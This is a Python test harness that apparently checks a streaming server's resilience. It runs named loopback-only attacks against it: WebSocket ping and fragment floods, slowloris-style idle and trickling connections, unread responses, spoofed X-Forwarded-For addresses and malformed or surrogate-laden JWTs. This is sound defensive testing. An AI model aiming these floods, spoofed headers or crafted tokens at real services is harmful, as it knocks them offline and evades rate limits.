"""What one anonymous client may try, each by its name: `python hostile_attacks.py NAME TARGET` (JSON).

Every attack comes from loopback addresses of its own, opens a bounded number of connections, and ends by itself after
the target's seconds. It then writes as JSON what became of its connections (`fate`) and what it was answered.
"""

from __future__ import annotations

import base64
import contextlib
import errno
import json
import os
import random
import selectors
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

sys.path.insert(0, str(Path(__file__).parents[1]))
import jwt
from jwt.algorithms import HMACAlgorithm
from wire import HEAD_END, JSON, invitation

CONNECT_S = 2.0
BURST_EVERY_S = 2.0
AGAIN_S = 0.1
"""Whoever is thrown out comes again, at most so often."""
NICENESS = 10
"""An attacker has a machine of its own: here it must not win by taking the server's cores."""
SMALL_BUFFER_BYTES = 4_096
CHUNK_BYTES = 65_536
BURST_BYTES = 480_000
FEW_READS = 64
UNREAD_CONNECTIONS = 4_200
"""Answers that are never read: more than the server has descriptors here."""
SURROGATE = "\ud800"
ADDRESSES = 50_000
"""Made-up ones, in X-Forwarded-For."""


class Target(NamedTuple):
    """Whom to attack, for how long."""

    port: int
    room: str
    seconds: float
    source: str
    secret: str
    """Signs what an identity service would sign for any name that a stranger chooses."""


class Attacker:
    """The connections of one attack and what became of them."""

    def __init__(self, target: Target) -> None:
        self.target = target
        self.fate: Counter[str] = Counter()
        self.answers: Counter[str] = Counter()
        self.sent = 0
        self.until = time.monotonic() + target.seconds
        self.open: set[socket.socket] = set()

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.until

    def dial(self, *, small: bool = False) -> socket.socket | None:
        """A connection; None where there is none to be had."""
        made = socket.socket()
        try:
            made.settimeout(CONNECT_S)
            made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if small:
                made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER_BYTES)
            made.bind((self.target.source, 0))
            made.connect(("127.0.0.1", self.target.port))
        except OSError as error:
            self.fate[f"not connected: {_name(error)}"] += 1
            made.close()
            return None
        self.fate["connected"] += 1
        self.open.add(made)
        return made

    def join(self, *, small: bool = False, token: str = "", request: bytes = b"") -> socket.socket | None:
        """A viewer's WebSocket, with the first snapshot read; None where it was refused."""
        made = self.dial(small=small)
        if made is None:
            return None
        try:
            made.sendall(request or invitation("127.0.0.1", self.target.room, JSON).request(token))
            head = made.recv(CHUNK_BYTES)
        except OSError as error:
            self.answers[f"handshake: {_name(error)}"] += 1
            self.drop(made, "not upgraded")
            return None
        self.answers[f"handshake: {head[9:12].decode('ascii', 'replace') or 'closed without an answer'}"] += 1
        if head[9:12] != b"101":
            self.drop(made, "not upgraded")
            return None
        made.setblocking(False)
        return made

    def drop(self, made: socket.socket, why: str) -> None:
        self.fate[why] += 1
        self.open.discard(made)
        made.close()

    def flood(
        self,
        make: Callable[[], socket.socket | None],
        count: int,
        payload: bytes,
        *,
        read: bool,
        at_once: int = CHUNK_BYTES,
    ) -> None:
        """Send the payload over and over on so many connections; whoever is thrown out comes again."""
        at: dict[socket.socket, int] = {}
        again = 0.0
        with selectors.DefaultSelector() as selector:
            while not self.over:
                while len(at) < count and time.monotonic() >= again:
                    made = make()
                    if made is None:
                        again = time.monotonic() + AGAIN_S
                        break
                    made.setblocking(False)
                    at[made] = 0
                    selector.register(made, selectors.EVENT_WRITE | (selectors.EVENT_READ if read else 0))
                for key, events in selector.select(AGAIN_S):
                    found: socket.socket = key.fileobj  # type: ignore[assignment]
                    try:
                        if events & selectors.EVENT_READ:
                            self._read(found)
                        if events & selectors.EVENT_WRITE:
                            sent = found.send(payload[at[found] : at[found] + at_once])
                            self.sent += sent
                            at[found] = (at[found] + sent) % len(payload)
                    except BlockingIOError:
                        continue
                    except OSError as error:
                        selector.unregister(found)
                        del at[found]
                        self.drop(found, f"thrown out: {_name(error)}")
                        again = time.monotonic() + AGAIN_S

    def _read(self, made: socket.socket) -> None:
        data = made.recv(CHUNK_BYTES)
        if not data:
            raise ConnectionResetError(errno.ECONNRESET, "closed")
        for status in (b"200", b"400", b"404", b"429", b"431", b"500", b"503"):
            found = data.count(b"HTTP/1.1 " + status)
            if found:
                self.answers[status.decode()] += found

    def hold(self) -> None:
        """Do nothing until it is over, but see who is thrown out."""
        with selectors.DefaultSelector() as selector:
            for made in list(self.open):
                made.setblocking(False)
                selector.register(made, selectors.EVENT_READ)
            while not self.over:
                for key, _ in selector.select(AGAIN_S):
                    found: socket.socket = key.fileobj  # type: ignore[assignment]
                    try:
                        self._read(found)
                    except BlockingIOError:
                        continue
                    except OSError as error:
                        selector.unregister(found)
                        self.drop(found, f"thrown out: {_name(error)}")

    def ask(self, request: bytes) -> str:
        """One request on a connection of its own; the status, or what came instead."""
        made = self.dial()
        if made is None:
            time.sleep(AGAIN_S)
            return "not connected"
        try:
            made.sendall(request)
            said = made.recv(CHUNK_BYTES)[9:12].decode("ascii", "replace") or "closed without an answer"
        except OSError as error:
            said = _name(error)
        self.drop(made, "ended")
        self.answers[said] += 1
        self.sent += len(request)
        return said

    def report(self) -> str:
        self.fate["open at the end"] = len(self.open)
        return json.dumps({"fate": self.fate, "answers": self.answers, "sent_bytes": self.sent})


def _name(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


def frame(first: int, payload: bytes = b"") -> bytes:
    """A masked frame of at most 125 bytes; the mask is zero, so that the payload stands as it is."""
    return bytes((first, 0x80 | len(payload))) + bytes(4) + payload


def get(path: str, *headers: str, method: str = "GET") -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", *headers, "", ""]).encode()


PING, PONG = frame(0x89), frame(0x8A)


def ping_flood(a: Attacker) -> None:
    a.flood(a.join, 1, PING * 10_000, read=True)


def ping_flood_8(a: Attacker) -> None:
    a.flood(a.join, 8, PING * 10_000, read=True)


def ping_burst(a: Attacker) -> None:
    """480 KB at once, then silence; again with another connection two seconds later."""
    burst = PING * (BURST_BYTES // len(PING))
    while not a.over:
        made = a.join()
        if made is None:
            time.sleep(AGAIN_S)
            continue
        made.settimeout(BURST_EVERY_S)
        with contextlib.suppress(OSError):
            made.sendall(burst)
            a.sent += len(burst)
        time.sleep(BURST_EVERY_S)
        a.drop(made, "ended")


def pongs_unread(a: Attacker) -> None:
    a.flood(lambda: a.join(small=True), 8, frame(0x89, b"x" * 125) * 500, read=False)


def pong_flood(a: Attacker) -> None:
    a.flood(a.join, 8, PONG * 10_000, read=True)


def one_byte_segments(a: Attacker) -> None:
    """Pings, a byte a segment."""
    a.flood(a.join, 8, PING, read=True, at_once=1)


def fragments(a: Attacker) -> None:
    """A message that begins and goes on in empty fragments for ever."""

    def begun() -> socket.socket | None:
        made = a.join()
        if made is not None:
            with contextlib.suppress(OSError):
                made.send(frame(0x01))
        return made

    a.flood(begun, 8, frame(0x00) * 10_000, read=True)


def unread_responses(a: Attacker) -> None:
    """Many large answers that nobody reads."""
    request = get("/v1/openapi.json")
    for _ in range(UNREAD_CONNECTIONS):
        if a.over:
            break
        made = a.dial(small=True)
        if made is not None:
            with contextlib.suppress(OSError):
                made.sendall(request * 8)
    while not a.over:
        time.sleep(AGAIN_S)


def half_requests(a: Attacker) -> None:
    """A whole request, its answer, and the half of another that never ends."""
    for _ in range(2_100):
        if a.over:
            break
        made = a.dial()
        if made is None:
            continue
        try:
            made.sendall(get("/healthz"))
            a.answers[made.recv(CHUNK_BYTES)[9:12].decode("ascii", "replace")] += 1
            made.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127")
        except OSError as error:
            a.drop(made, f"thrown out: {_name(error)}")
    a.hold()


def idle(a: Attacker) -> None:
    """Connections on which nothing is ever said; whoever is thrown out comes again."""
    _crowd(a, 2_100, b"")


def trickling(a: Attacker) -> None:
    """A request that comes a byte a second."""
    _crowd(a, 2_100, get("/healthz", "X-Slow: " + "x" * 2_000))


def _crowd(a: Attacker, count: int, request: bytes) -> None:
    said = 0
    while not a.over:
        begun = time.monotonic()
        while len(a.open) < count and time.monotonic() < begun + 1 and not a.over:
            made = a.dial()
            if made is None:
                break
            made.setblocking(False)
        for made in list(a.open):
            try:
                with contextlib.suppress(BlockingIOError):
                    if request:
                        made.send(request[said : said + 1])
                    a._read(made)  # noqa: SLF001  # the crowd is the attacker's own
            except OSError as error:
                a.drop(made, f"thrown out: {_name(error)}")
        said += 1
        time.sleep(max(0.0, begun + 1 - time.monotonic()))


def forwarded_for(a: Attacker) -> None:
    """Guests' passes for addresses that were made up."""
    chance, path = random.Random(1), f"/v1/rooms/{a.target.room}/guests"
    number = 0
    while not a.over and number < ADDRESSES:
        number += 1
        made_up = "a:b" if number % 50 == 0 else ".".join(str(chance.randrange(1, 255)) for _ in range(4))
        headers = (f"X-Forwarded-For: {made_up}", "Content-Type: application/json", "Content-Length: 2")
        a.ask(get(path, *headers, "Connection: close", method="POST") + b"{}")


def surrogates(a: Attacker) -> None:
    """Unsigned tokens with half of a character, by HTTP and on the handshake."""
    token = _token({"alg": "HS256", "crit": [SURROGATE]}, {"sub": "x", "role": "viewer", "exp": 4_000_000_000})
    while not a.over:
        a.ask(get("/v1/pools/hostile/skus", f"Authorization: Bearer {token}", "Connection: close"))
        made = a.join(token=token)
        if made is not None:
            a.drop(made, "ended")


def signed_surrogates(a: Attacker) -> None:
    """Signed tokens whose user is half of a character, or whose end is beyond every clock."""
    claims = {"role": "viewer", "exp": int(time.time()) + 600}
    strange = ({**claims, "sub": SURROGATE}, {**claims, "sub": "x", "exp": 10**29})
    bad = [_signed(each, a.target.secret) for each in strange]
    good = jwt.encode({**claims, "sub": "x"}, a.target.secret, algorithm="HS256")
    while not a.over:
        for token in (*bad, good):
            made = a.join(token=token)
            if made is not None:
                a.drop(made, "ended")


def _encoded(part: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


def _token(head: object, claims: object) -> str:
    return f"{_encoded(head)}.{_encoded(claims)}.{base64.urlsafe_b64encode(b'x' * 32).rstrip(b'=').decode()}"


def _signed(claims: object, secret: str) -> str:
    what = f"{_encoded({'alg': 'HS256', 'typ': 'JWT'})}.{_encoded(claims)}"
    signature = HMACAlgorithm(HMACAlgorithm.SHA256).sign(what.encode(), secret.encode())
    return f"{what}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"


def garbage(a: Attacker) -> None:
    """What is no request at all, a line of log each."""
    while not a.over:
        a.ask(b"\x16\x03\x01" + os.urandom(24) + HEAD_END)


def on_air_flood(a: Attacker) -> None:
    a.flood(a.dial, 4, get("/v1/on-air"), read=True)


def metrics_flood(a: Attacker) -> None:
    a.flood(a.dial, 4, get("/metrics"), read=True)


def pipelined(a: Attacker) -> None:
    """As many requests as fit into one read."""
    a.flood(a.dial, 4, get("/healthz") * FEW_READS, read=True)


class Attack(NamedTuple):
    """One of them, and what the bench must know of it."""

    run: Callable[[Attacker], None]
    workers: int = 1
    trusted: bool = False
    """Whether the attacker's address is a proxy whose headers are believed."""
    lines: bool = False
    """Whether it is after the log: then the server says all that it has to say."""


ATTACKS = {
    "ping-flood": Attack(ping_flood),
    "ping-flood-8": Attack(ping_flood_8, workers=2),
    "ping-burst": Attack(ping_burst),
    "pongs-unread": Attack(pongs_unread),
    "pong-flood": Attack(pong_flood, workers=2),
    "one-byte-segments": Attack(one_byte_segments),
    "fragments": Attack(fragments, workers=2),
    "unread-responses": Attack(unread_responses),
    "half-requests": Attack(half_requests),
    "idle": Attack(idle),
    "trickling": Attack(trickling),
    "forwarded-for": Attack(forwarded_for),
    "forwarded-for-proxy": Attack(forwarded_for, trusted=True),
    "surrogates": Attack(surrogates, lines=True),
    "signed-surrogates": Attack(signed_surrogates, lines=True),
    "garbage": Attack(garbage, lines=True),
    "on-air-flood": Attack(on_air_flood),
    "metrics-flood": Attack(metrics_flood, workers=2),
    "pipelined": Attack(pipelined),
}


if __name__ == "__main__":
    os.nice(NICENESS)
    attacker = Attacker(Target(**json.loads(sys.argv[2])))
    ATTACKS[sys.argv[1]].run(attacker)
    sys.stdout.write(attacker.report() + "\n")
